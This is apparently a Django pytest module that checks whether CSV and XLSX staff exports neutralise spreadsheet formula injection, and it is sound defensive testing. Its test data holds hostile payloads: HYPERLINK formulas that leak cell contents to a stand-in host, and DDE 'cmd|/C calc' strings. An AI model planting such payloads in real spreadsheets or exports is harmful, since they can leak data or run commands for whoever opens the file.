"""Formula injection in the staff table exports (the exports app's CSV and XLSX, as the admin
action asks for them): every text a candidate or a staff member typed, in every column and in
the headers named after document types, starting with each of the characters a spreadsheet
reads as the start of a formula. No cell may start with one, and no XLSX cell may be a
formula."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from dossiers.models import Address, PersonalInfo
from exports.columns import BY_KEY, FORMULA_STARTS
from exports.models import Export
from tests.exports.test_tables import ask
from tests.factories import (
    CandidatureFactory,
    CentreFactory,
    ExternalCursusFactory,
    PieceTypeFactory,
    ProgrammeFactory,
    RequiredPieceFactory,
    centre_staff,
)

from ..exports.conftest import may_view_applications

pytestmark = pytest.mark.django_db
PAYLOADS = [f'{start}HYPERLINK("http://127.0.0.1:9/?leak="&A1,"x")' for start in FORMULA_STARTS]
PAYLOADS += ['=cmd|" /C calc"!A0', "+33 6 12 34 56 78", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


def _hostile_candidatures(centre, payload):
    programme = ProgrammeFactory(centre=centre, code=payload[:20], title=f"{payload} master")
    label = f"{payload} (document)"
    piece_type = PieceTypeFactory(label_fr=label, label_en=label)
    RequiredPieceFactory(programme=programme, piece_type=piece_type)
    candidature = CandidatureFactory(programme=programme, received=True)
    PersonalInfo.objects.filter(dossier=candidature.dossier).update(
        birth_name=payload, usage_name=payload, first_names=payload, phone=""
    )
    Address.objects.filter(dossier=candidature.dossier).update(
        line1=payload, line2=payload, town=payload
    )
    candidature.dossier.has_no_external_cursus = False
    candidature.dossier.save(update_fields=["has_no_external_cursus"])
    ExternalCursusFactory(dossier=candidature.dossier, institution=payload, diploma=payload)
    return candidature


@pytest.fixture
def hostile(client):
    centre = CentreFactory(name='=HYPERLINK("http://evil")')
    staff = may_view_applications(centre_staff(centre, language="en"))
    client.force_login(staff)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    return [_hostile_candidatures(centre, payload) for payload in PAYLOADS]


COLUMNS = [*BY_KEY, "pieces"]


def _download(client):
    export = Export.objects.get()
    assert export.status == "done", export.error if hasattr(export, "error") else export.status
    return b"".join(client.get(reverse("exports:download", args=[export.pk])).streaming_content)


def _starts_like_a_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def test_no_xlsx_cell_is_a_formula_nor_starts_like_one(
    client, hostile, django_capture_on_commit_callbacks
):
    ask(client, hostile, django_capture_on_commit_callbacks, kind="xlsx", columns=COLUMNS)
    sheet = load_workbook(io.BytesIO(_download(client))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(list(sheet.iter_rows())) == len(PAYLOADS) + 1
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert formulas == []
    starting = [
        (cell.coordinate, cell.value) for cell in cells if _starts_like_a_formula(cell.value)
    ]
    assert starting == []
    # The payloads are all there, as text (nothing was dropped to get there).
    texts = [str(cell.value) for cell in cells]
    for payload in PAYLOADS:
        assert f"'{payload}" in texts, payload
        assert f"'{payload} (document)" in texts, payload  # a header named by staff


def test_no_csv_cell_starts_like_a_formula(client, hostile, django_capture_on_commit_callbacks):
    ask(client, hostile, django_capture_on_commit_callbacks, kind="csv", columns=COLUMNS)
    content = _download(client).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=";"))
    assert len(rows) == len(PAYLOADS) + 1
    cells = [value for row in rows for value in row]
    assert [value for value in cells if _starts_like_a_formula(value)] == []
    for payload in PAYLOADS:
        assert f"'{payload}" in cells, payload
        assert f"'{payload} (document)" in cells, payload
